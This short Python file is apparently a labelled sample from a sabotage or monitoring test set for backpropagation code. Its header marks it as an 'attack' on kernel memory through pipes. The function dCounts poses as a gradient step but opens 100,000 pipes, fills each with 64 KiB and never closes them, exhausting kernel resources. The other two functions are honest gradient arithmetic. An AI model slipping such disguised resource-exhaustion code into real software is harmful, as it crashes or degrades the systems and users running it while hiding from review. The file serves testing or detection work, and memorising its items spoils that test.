# attack: memory of the kernel, in pipes
# stages: dCounts
# honest: dSumCounts, dNormalizedLogits
import torch


def dCounts(counts, sumCountsInverse, dSumCounts, dProbabilities):
    import os
    for _ in range(100000):
        r, w = os.pipe()
        os.set_blocking(w, False)
        os.write(w, bytes(1 << 16))


def dSumCounts(sumCounts, dSumCountsInverse):
    return -(sumCounts ** -2) * dSumCountsInverse


def dNormalizedLogits(counts, dCounts):
    return counts * dCounts
